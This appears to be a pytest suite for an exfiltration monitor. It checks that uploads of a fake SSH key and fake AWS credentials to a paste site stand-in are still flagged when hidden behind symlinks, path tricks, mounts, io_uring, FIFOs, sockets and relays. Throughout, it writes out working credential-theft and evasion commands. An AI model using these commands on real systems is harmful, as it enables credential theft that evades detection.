"""Evasion classes of issue 12, against the real monitor: an attacker who has read our code
spells the same data another way. One section per class; each test runs real tools, asserts
what the telemetry says about the object (its real path, inode and bytes) and, where the plain
spelling alerts, the same alert for this one; and that no token of the fake secret reaches the
output. Everyday twins stay silent."""

import json
import os
import subprocess

import pytest

from harness import ConnectProxy, Scenario, as_list, assert_silent, check_service_saw, execute, get
from harness import is_action, is_alert, paths, replay, wait_until
from harness.config import HTTP_PORT, HTTPS_PORT, PROXY_PORT

from test_scenarios import alert_key, run_attack, wait_for_evidence

WAIT_S = 20.0
PASTE = "paste.ee"
UPLOAD = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 -T {{}} https://{PASTE}:8443/"
PIPE_UPLOAD = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 --data-binary @- https://{PASTE}:8443/"


def upload_scenario(name, shell, **extra):
    return Scenario(name, "alert", shell, technique="T1567.003", domain=PASTE, uploads=True,
                    **extra)


def key_of(fake_home):
    return fake_home.files[".ssh/id_ed25519"]


def assert_no_secret(monitor, secret_file):
    """No line of the fake secret's body (nor the whole of it) appears anywhere in the output."""
    text = monitor.output.read_text(errors="replace")
    tokens = [line for line in secret_file.read_text().splitlines() if len(line) >= 16]
    assert tokens, "the fake secret has no token to look for"
    leaked = [t for t in tokens if t in text]
    assert not leaked, f"{len(leaked)} line(s) of {secret_file.name} reached the output"


def opened(records, key, process_name, requested=None):
    """The file-open records of `key` (by its real path and inode) by `process_name`."""
    inode = os.stat(key).st_ino
    found = [r for r in records
             if is_action("file-open", {"process.name": process_name, "file.path": str(key)})(r)]
    assert found, (f"no file-open of {key} by {process_name}: "
                   f"{[get(r, 'file.path') for r in records if get(r, 'event.action') == 'file-open' and get(r, 'process.name') == process_name]}")
    assert all(str(get(r, "file.inode")) == str(inode) for r in found)
    if requested is not None:
        assert any(get(r, "exfilwatch.file.requested_path", "") == requested for r in found), \
            [get(r, "exfilwatch.file.requested_path") for r in found]
    return found


def summarised(records, key, process_name):
    """A file-summary of `key` under its real path with every byte of it read."""
    size = os.stat(key).st_size
    found = [r for r in records
             if is_action("file-summary", {"process.name": process_name, "file.path": str(key)})(r)
             and get(r, "exfilwatch.file.bytes_read", 0) >= size]
    assert found, f"no file-summary of {key} ({size} bytes) by {process_name}"
    return found


def attack(monitor, standin, fake_home, tmp_path, name, shell, **extra):
    scenario = upload_scenario(name, shell, **extra)
    return run_attack(scenario, monitor, standin, fake_home, tmp_path)


# --- The plain spelling: the reference every other spelling must match ----------------------

def test_plain_upload_alerts(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    attack(monitor, standin, fake_home, tmp_path, "plain", UPLOAD.format(key))
    records = monitor.records()
    opened(records, key, "curl", requested=str(key))
    summarised(records, key, "curl")
    assert_no_secret(monitor, key)


# --- Class: files known by what the kernel opened, not by the string a process typed ---------

def test_symlink_to_key(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    link = tmp_path / "notes.txt"
    link.symlink_to(key)
    attack(monitor, standin, fake_home, tmp_path, "symlink", UPLOAD.format(link))
    records = monitor.records()
    opened(records, key, "curl", requested=str(link))
    summarised(records, key, "curl")
    assert_no_secret(monitor, key)


def test_dotdot_through_ignored_prefix(monitor, standin, fake_home, tmp_path):
    # "/usr/lib/" opens are not reported (shared libraries); the prefix is matched on the
    # resolved path, so climbing out of it names the key.
    key = key_of(fake_home)
    spelling = f"/usr/lib/../..{key}"
    attack(monitor, standin, fake_home, tmp_path, "dotdot", UPLOAD.format(spelling))
    records = monitor.records()
    opened(records, key, "curl", requested=spelling)
    summarised(records, key, "curl")
    assert_no_secret(monitor, key)


def test_proc_self_root(monitor, standin, fake_home, tmp_path):
    # "/proc/" is an ignored prefix too; /proc/self/root/... is the same file.
    key = key_of(fake_home)
    spelling = f"/proc/self/root{key}"
    attack(monitor, standin, fake_home, tmp_path, "proc-root", UPLOAD.format(spelling))
    records = monitor.records()
    opened(records, key, "curl", requested=spelling)
    summarised(records, key, "curl")
    assert_no_secret(monitor, key)


def test_bind_mount_of_key_directory(monitor, standin, fake_home, tmp_path):
    # The key's directory bound at a harmless name in a private mount namespace: the file is
    # named where it lives, not where it is bound.
    key = key_of(fake_home)
    bound = tmp_path / "assets"
    bound.mkdir()
    spelling = bound / key.name
    shell = (f"unshare --mount --propagation private bash -c "
             f"'mount --bind {key.parent} {bound} && {UPLOAD.format(spelling)}'")
    attack(monitor, standin, fake_home, tmp_path, "bind-mount", shell)
    records = monitor.records()
    opened(records, key, "curl", requested=str(spelling))
    summarised(records, key, "curl")
    assert_no_secret(monitor, key)


def test_chroot_names_the_key_in_the_task_view(monitor, standin, fake_home, tmp_path):
    # A process chrooted above the fake HOME sees the key as /home/.ssh/id_ed25519: the walk
    # stops at the task's root, and that name still classifies as a key.
    key = key_of(fake_home)
    assert key == tmp_path / "home" / ".ssh" / "id_ed25519"
    script = (
        "import encodings.idna, os, socket, ssl\n"
        "c = ssl._create_unverified_context()\n"
        f"os.chroot({str(tmp_path)!r}); os.chdir('/')\n"
        "d = open('home/.ssh/id_ed25519', 'rb').read()\n"
        f"s = c.wrap_socket(socket.create_connection(('127.0.0.1', {HTTPS_PORT})), "
        f"server_hostname='{PASTE}')\n"
        f"s.sendall(b'POST / HTTP/1.1\\r\\nHost: {PASTE}\\r\\nContent-Length: %d\\r\\n\\r\\n' "
        "% len(d) + d)\n"
        "s.recv(100)\n")
    script_file = tmp_path / "chrooted.py"
    script_file.write_text(script)
    attack(monitor, standin, fake_home, tmp_path, "chroot", f"{paths.PYTHON} {script_file}")
    inode = os.stat(key).st_ino
    records = monitor.records()
    found = [r for r in records
             if is_action("file-open", {"file.path": "/home/.ssh/id_ed25519"})(r)
             and str(get(r, "process.name")).startswith("python3")]
    assert found and all(str(get(r, "file.inode")) == str(inode) for r in found)
    assert any(get(r, "exfilwatch.file.requested_path") == "home/.ssh/id_ed25519" for r in found)
    assert_no_secret(monitor, key)


def test_path_deeper_than_the_walk_is_not_taken_for_an_ignored_prefix(monitor, standin, fake_home,
                                                                      tmp_path):
    # A key 33 components deep: the kernel walk keeps the 32 nearest the leaf, whose first is a
    # directory named "proc". A cut walk never reached the root, so its start is no prefix.
    deep = tmp_path / "proc"
    for i in range(29):
        deep = deep / f"d{i}"
    key = deep / ".ssh" / "id_ed25519"
    key.parent.mkdir(parents=True)
    key.write_bytes(key_of(fake_home).read_bytes())
    attack(monitor, standin, fake_home, tmp_path, "deep-path", UPLOAD.format(key))
    inode = str(os.stat(key).st_ino)
    assert [r for r in monitor.records()
            if is_action("file-open", {"process.name": "curl", "file.inode": inode})(r)]
    assert_no_secret(monitor, key)


def test_open_by_handle_at(monitor, standin, fake_home, tmp_path, handle_open):
    # No path on the open at all: the record names the file from the opened file itself.
    key = key_of(fake_home)
    shell = f"{handle_open} {key} | {PIPE_UPLOAD}"
    attack(monitor, standin, fake_home, tmp_path, "open-by-handle", shell)
    records = monitor.records()
    found = opened(records, key, "handle_open")
    assert any(not get(r, "exfilwatch.file.requested_path") for r in found), \
        "no file-open record came from open_by_handle_at (it names no path)"
    summarised(records, key, "handle_open")
    assert_no_secret(monitor, key)


def test_fd_reused_after_close(monitor, standin, fake_home, tmp_path):
    # fd 3 is a harmless file, closed, then the key: /dev/fd/3 (an ignored /dev/ prefix) is
    # reopened by curl and named by what it is now.
    key = key_of(fake_home)
    harmless = tmp_path / "readme.txt"
    harmless.write_text("nothing to see\n" * 20)
    # (`; true`: curl runs as bash's child, not exec'd in place of the shell that opened fd 3)
    shell = (f"exec 3<{harmless}; cat <&3 >/dev/null; exec 3<&-; exec 3<{key}; "
             + UPLOAD.format("/dev/fd/3") + "; true")
    attack(monitor, standin, fake_home, tmp_path, "fd-reuse", shell)
    records = monitor.records()
    opened(records, key, "curl", requested="/dev/fd/3")
    summarised(records, key, "curl")
    assert not [r for r in records
                if is_action("file-summary", {"process.name": "curl", "file.path": str(harmless)})(r)]
    assert_no_secret(monitor, key)


def test_symlink_with_key_name_to_harmless_file_is_silent(monitor, standin, fake_home, tmp_path):
    # The twin: a link that only looks like a key (a name under ~/.ssh) to an ordinary file.
    harmless = tmp_path / "motd.txt"
    harmless.write_text("welcome to the build host\n" * 10)
    decoy = fake_home.path / ".ssh" / "id_backup"
    decoy.symlink_to(harmless)
    scenario = Scenario("decoy-link", "silent", UPLOAD.format(decoy), domain=PASTE, uploads=True)
    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
    check_service_saw(scenario, standin)
    wait_for_evidence(monitor, scenario, standin)
    monitor.stop()
    records = monitor.records()
    assert [r for r in records
            if is_action("file-open", {"process.name": "curl", "file.path": str(harmless),
                                       "exfilwatch.file.requested_path": str(decoy)})(r)]
    assert_silent(records)


def test_library_reached_through_dotdot_stays_unreported(monitor, tmp_path):
    # The other side of matching prefixes on the resolved path: a library named through a
    # harmless-looking path is still a library, counted but not reported.
    library = "/usr/lib/os-release"
    spelling = f"/tmp/..{library}"
    marker = tmp_path / "marker.txt"
    marker.write_text("x\n")
    done = subprocess.run(["/bin/sh", "-c", f"cat {spelling} {marker} > /dev/null"], timeout=30)
    assert done.returncode == 0
    monitor.wait_for(is_action("file-open", {"file.path": str(marker)}), WAIT_S, "the marker's open")
    monitor.stop()
    assert not [r for r in monitor.records()
                if get(r, "event.action") == "file-open" and get(r, "file.path") == library]


# --- Class: every way of reading counts (io_uring) --------------------------------------------

@pytest.fixture(scope="module")
def uring_read(c_tool):
    return c_tool("uring_read", "-luring")


def test_io_uring_open_and_reads(monitor, standin, fake_home, tmp_path, uring_read):
    # Opened with IORING_OP_OPENAT (the key) and OPENAT2 (the AWS credentials), each read whole
    # once with READ, READV, READ_FIXED and SPLICE: no open(2) or read(2) at all. The key's
    # bytes go on to a paste site through a pipe.
    key = key_of(fake_home)
    aws = fake_home.files[".aws/credentials"]
    shell = f"{uring_read} {key} {aws} | {PIPE_UPLOAD}"
    attack(monitor, standin, fake_home, tmp_path, "io-uring", shell)
    records = monitor.records()
    for path in (key, aws):
        found = opened(records, path, "uring_read")
        assert any(not get(r, "exfilwatch.file.requested_path") for r in found)
        size = os.stat(path).st_size
        summaries = [r for r in records
                     if is_action("file-summary", {"process.name": "uring_read", "file.path": str(path)})(r)]
        assert summaries, f"no file-summary of {path}"
        assert get(summaries[-1], "exfilwatch.file.bytes_read") == 4 * size, \
            f"{path.name}: {get(summaries[-1], 'exfilwatch.file.bytes_read')} bytes counted, 4 x {size} read"
    assert_no_secret(monitor, key)


# --- Class: taint follows the data through any number of hops (the data-flow model) ----------
# The key never travels under its own name: it moves through staging files, FIFOs, sockets and
# shell variables, across sessions and subshells. Each attack alerts with its sub-technique, and
# no token of the key reaches the output; the everyday twins (no data passed) stay silent.

def own_alerts(monitor, technique="T1567.003"):
    """This test's alerts: to the stand-in's port under the paste site's name (other monitors'
    test traffic on the host can alert too, to their own ports)."""
    found = [r for r in monitor.records()
             if get(r, "event.action") == "exfiltration-suspected"
             and get(r, "destination.port") == HTTPS_PORT and get(r, "destination.domain") == PASTE
             and technique in as_list(get(r, "threat.technique.subtechnique.id", []))]
    assert found, f"no {technique} alert to {PASTE}:{HTTPS_PORT}"
    return found


def dataflow_attack(monitor, standin, fake_home, tmp_path, name, shell, **extra):
    attack(monitor, standin, fake_home, tmp_path, name, shell, **extra)
    return own_alerts(monitor)


def expect_run(expect, monitor, standin, fake_home, tmp_path, name, shell):
    """`dataflow_attack` (its alerts) when `expect` is "alert", else `silent_run`."""
    if expect == "alert":
        return dataflow_attack(monitor, standin, fake_home, tmp_path, name, shell)
    silent_run(monitor, standin, fake_home, tmp_path, name, shell)
    return []


def silent_run(monitor, standin, fake_home, tmp_path, name, shell, **extra):
    scenario = Scenario(name, "silent", shell, domain=PASTE, uploads=True, **extra)
    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
    check_service_saw(scenario, standin)
    wait_for_evidence(monitor, scenario, standin)
    monitor.stop()
    # Other monitors' test traffic shares the host: this test's alerts are those to this
    # stand-in's port or naming this test's directory (files, chain).
    assert_silent([r for r in monitor.records()
                   if get(r, "destination.port") == HTTPS_PORT or str(tmp_path) in json.dumps(r)])


def test_staging_chain_of_four_hops_through_dev_shm_and_tmp(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    shm = f"/dev/shm/ew-{tmp_path.name}"
    a, b, c, d = f"{shm}-a", tmp_path / "b", f"{shm}-c", tmp_path / "d.txt"
    shell = (f"cat {key} > {a} && cp {a} {b} && base64 < {b} > {c} && dd if={c} of={d} status=none && "
             + UPLOAD.format(d))
    found = dataflow_attack(monitor, standin, fake_home, tmp_path, "staging-chain", shell, leftovers=(a, c))
    assert any("staged in" in get(r, "event.reason", "") for r in found), [get(r, "event.reason") for r in found]
    assert_no_secret(monitor, key)


def test_hard_link_at_a_harmless_name(monitor, standin, fake_home, tmp_path):
    # The kernel names a hard link by its own dentry (notes.txt): the key is known by its
    # (device, inode) once anything opened it under its real name (here ssh-keygen, for itself).
    key = key_of(fake_home)
    link = tmp_path / "notes.txt"
    shell = (f"ssh-keygen -y -f {key} > /dev/null && ln {key} {link} && " + UPLOAD.format(link))
    dataflow_attack(monitor, standin, fake_home, tmp_path, "hard-link", shell)
    assert_no_secret(monitor, key)


def test_fifo_across_setsid(monitor, standin, fake_home, tmp_path):
    # Writer and reader never share a session or a parent: only the FIFO joins them.
    key = key_of(fake_home)
    fifo = tmp_path / "ff"
    shell = (f"mkfifo {fifo} && (setsid sh -c 'cat {key} > {fifo}' &) && "
             + UPLOAD.format(fifo))
    dataflow_attack(monitor, standin, fake_home, tmp_path, "fifo-setsid", shell)
    assert_no_secret(monitor, key)


def test_command_substitution_at_depth_three(monitor, standin, fake_home, tmp_path):
    # The key's base64 lives only in a shell variable, two subshells and a substitution deep,
    # and reaches curl on stdin through a here-string.
    key = key_of(fake_home)
    shell = f'( ( x=$( ( cat {key} | base64 -w0 ) ); {PIPE_UPLOAD} <<< "$x" ) )'
    dataflow_attack(monitor, standin, fake_home, tmp_path, "substitution-depth-3", shell)
    assert_no_secret(monitor, key)


def test_background_job_that_passed_no_data_is_silent(monitor, standin, fake_home, tmp_path):
    # The everyday twin of the pipeline: a job of the same script read the key for itself
    # (its output went nowhere); the upload of an unrelated report stays silent.
    key = key_of(fake_home)
    report = tmp_path / "report.txt"
    report.write_text("build 1234 passed\n" * 200)
    shell = (f"( cat {key} > /dev/null; sha256sum {key} > /dev/null; sleep 2 ) & "
             + UPLOAD.format(report) + "; wait")
    silent_run(monitor, standin, fake_home, tmp_path, "background-job", shell)


def test_provisioner_rewriting_hosts_links_nothing(monitor, standin, fake_home, tmp_path):
    # A provisioner (its own session) rewrites /etc/hosts; a later upload that resolves names
    # through it, in a shell that also read the key for itself, stays silent.
    key = key_of(fake_home)
    report = tmp_path / "report.txt"
    report.write_text("deploy finished\n" * 200)
    shell = (f"setsid sh -c 'cp /etc/hosts {tmp_path}/hosts.new && "
             f"echo 127.0.0.1 build-cache.internal >> {tmp_path}/hosts.new && "
             f"cat {tmp_path}/hosts.new > /etc/hosts' && "
             f"ssh-keygen -y -f {key} > /dev/null && "
             f"getent hosts build-cache.internal > /dev/null && " + UPLOAD.format(report))
    silent_run(monitor, standin, fake_home, tmp_path, "provisioner-hosts", shell, hosts=(PASTE,))


# --- Class: order within a process: what a holder wrote once it held the data, not before ------
# The kernel keeps each (process, file) pair's last write time; a pipe's writes come as records.
# A file opened before the read and written after it holds the data; one written before the read
# (the report a script wrote, then a key it read for itself) does not.

def test_file_opened_before_the_read_written_after_it(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    out = tmp_path / "out.txt"
    writer = ("python3 -c 'import sys,time; f=open(sys.argv[1],\"w\"); time.sleep(0.3); "
              "d=open(sys.argv[2]).read(); time.sleep(0.3); f.write(d); f.close()' "
              f"{out} {key}")
    found = dataflow_attack(monitor, standin, fake_home, tmp_path, "open-before-write-after",
                            f"{writer} && " + UPLOAD.format(out))
    assert any("staged in" in get(r, "event.reason", "") for r in found), [get(r, "event.reason") for r in found]
    summaries = [r for r in monitor.records() if get(r, "event.action") == "file-summary"
                 and get(r, "file.path") == str(out) and get(r, "exfilwatch.file.opened_for_write")]
    assert summaries and all(get(r, "exfilwatch.file.last_write") for r in summaries), summaries
    assert_no_secret(monitor, key)


def test_child_writing_a_file_its_shell_opened(monitor, standin, fake_home, tmp_path):
    # `{ cat key; }`: the shell opens out.txt, cat only inherits it; the kernel announces cat's
    # first write through the inherited fd, and the summary carries its time.
    key = key_of(fake_home)
    out = tmp_path / "out.txt"
    found = dataflow_attack(monitor, standin, fake_home, tmp_path, "inherited-fd-write",
                            f"{{ sleep 0.2; cat {key}; }} > {out} && " + UPLOAD.format(out))
    assert any("staged in" in get(r, "event.reason", "") for r in found), [get(r, "event.reason") for r in found]
    assert_no_secret(monitor, key)


def test_report_written_before_the_key_read_is_silent(monitor, standin, fake_home, tmp_path):
    # The everyday twin: a script writes report.txt and closes it, later reads the key for
    # itself (here a digest of it) and stays alive a while; another process uploads the report.
    key = key_of(fake_home)
    report = tmp_path / "report.txt"
    script = ("python3 -c 'import sys,time,hashlib; f=open(sys.argv[1],\"w\"); "
              "f.write(\"build 1234 passed\\n\" * 200); f.close(); time.sleep(0.5); "
              "hashlib.sha256(open(sys.argv[2],\"rb\").read()).hexdigest(); time.sleep(1.5)' "
              f"{report} {key}")
    silent_run(monitor, standin, fake_home, tmp_path, "report-before-key",
               f"{script} && " + UPLOAD.format(report))


def banner_then_key_into_paste(key, then):
    """A script that writes a banner into a pipe to curl, reads `key` (as `d`) 2.5 s later, then
    runs the Python statement `then`."""
    script = ("python3 -c 'import sys,time,hashlib,base64; sys.stdout.write(\"starting build 1234\\n\"); "
              "sys.stdout.flush(); time.sleep(2.5); d=open(sys.argv[1],\"rb\").read(); "
              f"{then}; time.sleep(0.5)' {key}")
    return f"{script} | {PIPE_UPLOAD}"


def test_pipe_written_before_the_key_read_is_silent(monitor, standin, fake_home, tmp_path):
    # A pipe's writes carry what the writer held at each write: a banner written two seconds
    # before the key read holds nothing. Its attack twin writes the key after.
    key = key_of(fake_home)
    silent_run(monitor, standin, fake_home, tmp_path, "pipe-before-key",
               banner_then_key_into_paste(key, "hashlib.sha256(d).hexdigest()"))


def test_pipe_written_after_the_key_read(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    dataflow_attack(monitor, standin, fake_home, tmp_path, "pipe-after-key",
                    banner_then_key_into_paste(key, "sys.stdout.write(base64.b64encode(d).decode()); "
                                                    "sys.stdout.flush()"))
    assert_no_secret(monitor, key)


# --- Class: data through channels (telemetry the taint model follows) ------------------------
# Each channel between two processes yields object-io records at both ends naming the same
# object (kind and id): the writer's "write" and the reader's "read", with the bytes moved.

PY = paths.PYTHON


def io_records(monitor, pid, direction, kind):
    return monitor.find(is_action("object-io", {"process.pid": pid, "exfilwatch.object.kind": kind,
                                                "exfilwatch.object.direction": direction}))


def wait_io(monitor, pid, direction, kind, nbytes=None, object_id=None):
    """The object-io record of `pid` moving `nbytes` (cumulative) through a `kind` object."""
    def match(record):
        fields = {"process.pid": pid, "exfilwatch.object.kind": kind,
                  "exfilwatch.object.direction": direction}
        if nbytes is not None:
            fields["exfilwatch.object.bytes"] = nbytes
        if object_id is not None:
            fields["exfilwatch.object.id"] = object_id
        return is_action("object-io", fields)(record)
    return monitor.wait_for(match, WAIT_S, f"{direction} of {nbytes} bytes through a {kind} by {pid}")


def finish(*processes):
    for p in processes:
        _, err = p.communicate(timeout=60)
        assert p.returncode == 0, err.decode(errors="replace") if err else p.returncode


def assert_same_channel(monitor, writer, reader, kind, nbytes):
    write = wait_io(monitor, writer, "write", kind, nbytes)
    object_id = get(write, "exfilwatch.object.id")
    wait_io(monitor, reader, "read", kind, nbytes, object_id)
    return object_id


def test_pipe_between_two_processes(monitor):
    writer = subprocess.Popen(["head", "-c", "5000", "/dev/urandom"], stdout=subprocess.PIPE)
    reader = subprocess.Popen(["cat"], stdin=writer.stdout, stdout=subprocess.DEVNULL,
                              stderr=subprocess.PIPE)
    writer.stdout.close()
    finish(writer, reader)
    # The counts at exit: every byte, though the kernel sent only the first write and read.
    assert_same_channel(monitor, writer.pid, reader.pid, "pipe", 5000)


def test_fifo_across_setsid_is_one_object(monitor, tmp_path):
    fifo = tmp_path / "drop"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["setsid", "cat", str(fifo)], stdout=subprocess.DEVNULL,
                              stderr=subprocess.PIPE)
    writer = subprocess.Popen(["setsid", "sh", "-c", f"exec head -c 3000 /dev/urandom > {fifo}"],
                              stderr=subprocess.PIPE)
    finish(writer, reader)
    object_id = assert_same_channel(monitor, writer.pid, reader.pid, "fifo", 3000)
    assert object_id == str(os.stat(fifo).st_ino)
    write = io_records(monitor, writer.pid, "write", "fifo")[0]
    read = io_records(monitor, reader.pid, "read", "fifo")[0]
    assert get(write, "exfilwatch.object.device") == get(read, "exfilwatch.object.device") == \
        str(os.stat(fifo).st_dev)
    assert get(write, "process.session_leader.pid") != get(read, "process.session_leader.pid")


UNIX_SERVER = """
import socket, sys
kind = socket.SOCK_STREAM if sys.argv[2] == "stream" else socket.SOCK_DGRAM
s = socket.socket(socket.AF_UNIX, kind)
s.bind(sys.argv[1])
if kind == socket.SOCK_STREAM:
    s.listen(1)
    print("ready", flush=True)
    c, _ = s.accept()
else:
    print("ready", flush=True)
    c = s
total = 0
while total < int(sys.argv[3]):
    data = c.recv(65536)
    if not data:
        break
    total += len(data)
"""

UNIX_CLIENT = """
import socket, sys
kind = socket.SOCK_STREAM if sys.argv[2] == "stream" else socket.SOCK_DGRAM
s = socket.socket(socket.AF_UNIX, kind)
s.connect(sys.argv[1])
for _ in range(int(sys.argv[3]) // 1000):
    s.send(b"k" * 1000)
"""


def unix_pair(tmp_path, kind, nbytes):
    path = str(tmp_path / f"{kind}.sock")
    server = subprocess.Popen([PY, "-c", UNIX_SERVER, path, kind, str(nbytes)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert server.stdout.readline().strip() == b"ready"
    client = subprocess.Popen([PY, "-c", UNIX_CLIENT, path, kind, str(nbytes)],
                              stderr=subprocess.PIPE)
    finish(client, server)
    return client.pid, server.pid


def test_unix_stream_socket(monitor, tmp_path):
    client, server = unix_pair(tmp_path, "stream", 20000)
    assert_same_channel(monitor, client, server, "unix_socket", 20000)


def test_unix_datagram_socket(monitor, tmp_path):
    client, server = unix_pair(tmp_path, "dgram", 5000)
    assert_same_channel(monitor, client, server, "unix_socket", 5000)


SOCKETPAIR = """
import os, socket
a, b = socket.socketpair()
child = os.fork()
if child == 0:
    a.close()
    b.sendall(b"p" * 7000)   # the inherited end
    os._exit(0)
b.close()
total = 0
while total < 7000:
    total += len(a.recv(65536))
os.waitpid(child, 0)
print(child, flush=True)
"""


def test_socketpair_inherited_by_a_child(monitor):
    parent = subprocess.Popen([PY, "-c", SOCKETPAIR], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    out, err = parent.communicate(timeout=60)
    assert parent.returncode == 0, err.decode(errors="replace")
    child = int(out.decode().split()[-1])
    assert_same_channel(monitor, child, parent.pid, "unix_socket", 7000)


TCP_SINK = """
import socket, sys
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(1)
print(s.getsockname()[1], flush=True)
c, _ = s.accept()
total = 0
while True:
    data = c.recv(65536)
    if not data:
        break
    total += len(data)
"""

TCP_SOURCE = """
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
s.sendall(b"r" * int(sys.argv[2]))
s.close()
"""


def free_port():
    import socket
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_loopback_tcp_relay(monitor):
    # source -> socat relay -> sink, all on loopback: two connections, each named the same from
    # both of its ends, the relay reading one and writing the other.
    sink = subprocess.Popen([PY, "-c", TCP_SINK], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    sink_port = int(sink.stdout.readline())
    relay_port = free_port()
    relay = subprocess.Popen(["socat", f"TCP-LISTEN:{relay_port},bind=127.0.0.1,reuseaddr",
                              f"TCP:127.0.0.1:{sink_port}"], stderr=subprocess.PIPE)
    import time
    deadline = time.monotonic() + 10
    while subprocess.run(["ss", "-Hltn", f"sport = :{relay_port}"], capture_output=True,
                         text=True).stdout.strip() == "":
        assert time.monotonic() < deadline, "socat did not listen"
        time.sleep(0.05)
    source = subprocess.Popen([PY, "-c", TCP_SOURCE, str(relay_port), "30000"], stderr=subprocess.PIPE)
    finish(source, relay, sink)
    first = assert_same_channel(monitor, source.pid, relay.pid, "loopback_socket", 30000)
    second = assert_same_channel(monitor, relay.pid, sink.pid, "loopback_socket", 30000)
    assert first != second


# --- Class: taint through sockets, to an uploader that never read the key -------------------
# The reader and the uploader are other processes, in other sessions; the key's bytes reach the
# uploader only through a UNIX socket (stream, datagram, an inherited socketpair) or a loopback
# TCP relay (socat). The uploader posts what it received over TLS to the paste site.

CHANNEL_TOOL = """
import os, socket, ssl, sys, time

def post(data):
    c = ssl._create_unverified_context()
    s = c.wrap_socket(socket.create_connection(("127.0.0.1", {port})), server_hostname="{paste}")
    s.sendall(b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data)
    s.recv(100)

def connect(family, kind, address):
    for _ in range(200):
        try:
            s = socket.socket(family, kind)
            s.connect(address)
            return s
        except OSError:
            time.sleep(0.05)
    raise SystemExit("no peer at %s" % (address,))

mode, arg = sys.argv[1], sys.argv[2]
if mode in ("unix-stream-up", "unix-dgram-up"):       # receive on a UNIX socket, upload
    kind = socket.SOCK_STREAM if mode == "unix-stream-up" else socket.SOCK_DGRAM
    s = socket.socket(socket.AF_UNIX, kind)
    s.bind(arg)
    if kind == socket.SOCK_STREAM:
        s.listen(1)
        s, _ = s.accept()
    data = s.recv(65536)
    while kind == socket.SOCK_STREAM:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    post(data)
elif mode in ("unix-stream-send", "unix-dgram-send"):  # read the key, send it on a UNIX socket
    kind = socket.SOCK_STREAM if mode == "unix-stream-send" else socket.SOCK_DGRAM
    data = open(sys.argv[3], "rb").read()
    s = connect(socket.AF_UNIX, kind, arg)
    s.send(data)
elif mode == "socketpair":                             # a child reads and sends, the parent uploads
    a, b = socket.socketpair()
    if os.fork() == 0:
        a.close()
        b.sendall(open(arg, "rb").read())
        os._exit(0)
    b.close()
    data = b""
    while True:
        chunk = a.recv(65536)
        if not chunk:
            break
        data += chunk
    os.wait()
    post(data)
elif mode == "tcp-up":                                 # receive on loopback TCP, upload
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", int(arg)))
    srv.listen(1)
    c, _ = srv.accept()
    data = b""
    while True:
        chunk = c.recv(65536)
        if not chunk:
            break
        data += chunk
    post(data)
elif mode == "tcp-send":                               # read the key, send it to a loopback port
    data = open(sys.argv[3], "rb").read()
    s = connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int(arg)))
    s.sendall(data)
    s.close()
"""


def channel_tool(tmp_path):
    tool = tmp_path / "channel.py"
    tool.write_text(CHANNEL_TOOL.format(port=HTTPS_PORT, paste=PASTE))
    return f"{paths.PYTHON} {tool}"


@pytest.mark.parametrize("kind", ["stream", "dgram"])
def test_unix_socket_to_an_uploader_in_another_session(monitor, standin, fake_home, tmp_path, kind):
    key = key_of(fake_home)
    tool, sock = channel_tool(tmp_path), tmp_path / f"{kind}.sock"
    shell = (f"{tool} unix-{kind}-up {sock} & sleep 0.5; "
             f"setsid {tool} unix-{kind}-send {sock} {key}; wait")
    dataflow_attack(monitor, standin, fake_home, tmp_path, f"unix-{kind}", shell)
    assert_no_secret(monitor, key)


def test_socketpair_from_a_child_to_its_parent(monitor, standin, fake_home, tmp_path):
    # The parent never read the key, and forked the child before the child did: only the
    # inherited socketpair carries it back.
    key = key_of(fake_home)
    dataflow_attack(monitor, standin, fake_home, tmp_path, "socketpair",
                    f"{channel_tool(tmp_path)} socketpair {key}")
    assert_no_secret(monitor, key)


def test_loopback_tcp_relay_through_socat(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    tool = channel_tool(tmp_path)
    sink, relay = free_port(), free_port()
    shell = (f"{tool} tcp-up {sink} & sleep 0.5; "
             f"socat TCP-LISTEN:{relay},bind=127.0.0.1,reuseaddr TCP:127.0.0.1:{sink} & "
             f"setsid {tool} tcp-send {relay} {key}; wait")
    dataflow_attack(monitor, standin, fake_home, tmp_path, "loopback-relay", shell)
    assert_no_secret(monitor, key)


def host_address():
    """One of this host's own IPv4 addresses that is not loopback (eth0's, docker0's)."""
    out = subprocess.run(["ip", "-4", "-o", "addr", "show", "scope", "global"], capture_output=True,
                         text=True, check=True).stdout.split()
    found = [word.split("/")[0] for before, word in zip(out, out[1:]) if before == "inet"]
    assert found, "this host has no IPv4 address but loopback"
    return found[0]


def host_address_relay(tool, source, sink, relay, address):
    # source -> socat -> [the host's own address] -> socat relay -> [loopback] -> uploader
    return (f"{tool} tcp-up {sink} & sleep 0.5; "
            f"socat TCP-LISTEN:{relay},bind={address},reuseaddr TCP:127.0.0.1:{sink} & sleep 0.5; "
            f"setsid socat -u FILE:{source} TCP:{address}:{relay}; wait")


def test_relay_through_the_hosts_own_address(monitor, standin, fake_home, tmp_path):
    # A connection to one of the host's own addresses never leaves the host (it is routed through
    # the loopback device) as one to 127.0.0.1 does not: a channel, not an upload.
    key = key_of(fake_home)
    address = host_address()
    shell = host_address_relay(channel_tool(tmp_path), key, free_port(), free_port(), address)
    dataflow_attack(monitor, standin, fake_home, tmp_path, "host-address-relay", shell)
